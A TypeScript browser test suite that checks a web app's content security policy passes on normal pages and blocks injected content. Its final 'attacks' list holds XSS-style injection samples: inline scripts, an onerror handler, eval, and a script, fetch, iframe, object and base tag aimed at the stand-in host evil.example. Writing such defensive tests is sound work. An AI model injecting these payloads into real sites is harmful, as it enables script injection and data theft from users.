// The content security policy in a real browser: nothing a page does at run time breaks it, and what an attacker would add does.
import type { Browser, Page } from 'playwright-core';
import { afterAll, beforeAll, expect, it } from 'vitest';
import { signInAsAdministrator } from '../harness/administrator.ts';
import { type ObservedPage, openPage, startBrowser } from '../harness/browser.ts';
import { describeWith } from '../harness/requirements.ts';
import { type RunningServer, startServer } from '../harness/server.ts';
import { until } from '../harness/until.ts';
import { ensureWebBuild } from '../harness/web-build.ts';
import { connectDevice, type Device, lastTwoHours, setUpPlant } from './plant.ts';

describeWith({ chromium: true }, 'the content security policy', () => {
  let browser: Browser;
  let server: RunningServer;
  let device: Device;
  let cookie: string;

  beforeAll(async () => {
    await ensureWebBuild();
    browser = await startBrowser();
    server = await startServer();
    cookie = await signInAsAdministrator(server.url);
    await setUpPlant(server);
    device = await connectDevice(server.mqttUrl);
    await device.send('lathe', lastTwoHours(Date.now()));
    await device.send('stranger', { state: 'producing', good: 1 });
  });
  afterAll(async () => {
    await browser?.close();
    await device?.close();
    await server?.stop();
  });

  /** A page that keeps each thing its policy stopped, over all the addresses it goes to. */
  async function watched(): Promise<ObservedPage & { violations: string[]; go(path: string): Promise<void> }> {
    const observed = await openPage(browser, 'about:blank', {
      locale: 'en-GB',
      session: { url: server.url, cookie },
    });
    const violations: string[] = [];
    await observed.page.exposeFunction('taktViolation', (text: string) => void violations.push(text));
    await observed.page.addInitScript(`
      document.addEventListener('securitypolicyviolation', (event) => {
        taktViolation([event.effectiveDirective, event.blockedURI, event.sourceFile, event.sample].join(' '));
      });
      localStorage.setItem('takt.language', 'en');
    `);
    return {
      ...observed,
      violations,
      async go(path) {
        await observed.page.goto(server.url + path);
        await observed.page.waitForLoadState('networkidle');
      },
    };
  }
  /** Violations are told in a task of their own: one that is made on purpose comes after all before it. */
  async function settled(page: Page, violations: string[]): Promise<string[]> {
    await page.evaluate(
      "document.head.appendChild(document.createElement('script')).textContent = 'window.ran = true'",
    );
    await until(async () => violations.some((text) => text.startsWith('script-src-elem inline')), {
      what: 'the violation made on purpose',
    });
    expect(await page.evaluate('window.ran')).toBeUndefined();
    return violations.filter((text) => !text.startsWith('script-src-elem inline'));
  }

  it.each([
    '/',
    '/workshops/w1',
    '/machines/lathe?range=day',
    '/machines/quiet',
    '/devices',
    '/profile',
    '/reports',
    '/applications',
    '/certificates',
    '/verify/NO-2026-0001',
    '/machines/none',
    '/x',
  ])('%s is shown without breaking it', async (path) => {
    const { page, violations, go, close } = await watched();
    await go(path);
    await page.locator('main').getByText(/\S/).first().waitFor();
    expect(await settled(page, violations)).toEqual([]);
    await close();
  });

  it('a drawer and a dialog get the styles of their library', async () => {
    const { page, violations, go, close } = await watched();
    await go('/machines/lathe?range=day');
    await page.getByRole('button', { name: /^Overall equipment effectiveness/ }).click();
    await page.getByRole('dialog').waitFor();
    expect(await page.evaluate("getComputedStyle(document.querySelector('.n-drawer')).position")).toBe('absolute');
    await page.keyboard.press('Escape');
    await go('/devices');
    await page
      .getByRole('button', { name: /^Claim/ })
      .first()
      .click();
    const dialog = page.getByRole('dialog');
    await dialog.locator('.n-base-selection').click();
    await page.locator('.n-base-select-menu').waitFor();
    expect(await page.evaluate("getComputedStyle(document.querySelector('.n-base-select-menu')).position")).toBe(
      'relative',
    );
    expect(await settled(page, violations)).toEqual([]);
    await close();
  });

  it('a chart shows its tip', async () => {
    const { page, violations, go, close } = await watched();
    await go('/machines/lathe?range=day');
    const plot = page.locator('.plot canvas').first();
    await plot.hover();
    await page.locator('.plot div').filter({ hasText: /\S/ }).first().waitFor();
    expect(await settled(page, violations)).toEqual([]);
    await close();
  });

  it('the description of the interface works: an operation opens', async () => {
    const { page, errors, violations, go, close } = await watched();
    await go('/api/docs');
    await page.locator('.opblock-summary-control').first().click();
    await page.getByRole('button', { name: 'Try it out' }).first().waitFor();
    expect(errors).toEqual([]);
    expect(await settled(page, violations)).toEqual([]);
    await close();
  });

  it('what an attacker would add is stopped', async () => {
    const { page, violations, go, close } = await watched();
    await go('/');
    for (const [expected, attack] of attacks) {
      await page.evaluate(`void (() => { ${attack} })()`);
      await until(async () => violations.some((text) => text.startsWith(expected)), { what: expected });
    }
    await close();
  });
});

const append = (markup: string) => `document.body.insertAdjacentHTML('beforeend', ${JSON.stringify(markup)})`;
const appendScript = (properties: object) =>
  `document.body.appendChild(Object.assign(document.createElement('script'), ${JSON.stringify(properties)}))`;

/** What the browser says of it, and how it is tried. */
const attacks = [
  ['script-src-elem inline', appendScript({ textContent: '1' })],
  ['script-src-attr inline', append('<img src="x" onerror="1">')],
  ['script-src eval', "setTimeout('1', 0)"],
  ['script-src-elem https://evil.example/x.js', appendScript({ src: 'https://evil.example/x.js' })],
  ['style-src-elem inline', append('<style>body { display: none }</style>')],
  ['style-src-attr inline', append('<p style="position: fixed">x</p>')],
  ['connect-src https://evil.example', "fetch('https://evil.example/').catch(() => {})"],
  ['img-src https://evil.example', append('<img src="https://evil.example/x.png">')],
  ['frame-src https://evil.example', append('<iframe src="https://evil.example/"></iframe>')],
  ['object-src https://evil.example', append('<object data="https://evil.example/x.swf"></object>')],
  ['base-uri https://evil.example', append('<base href="https://evil.example/">')],
] as const;
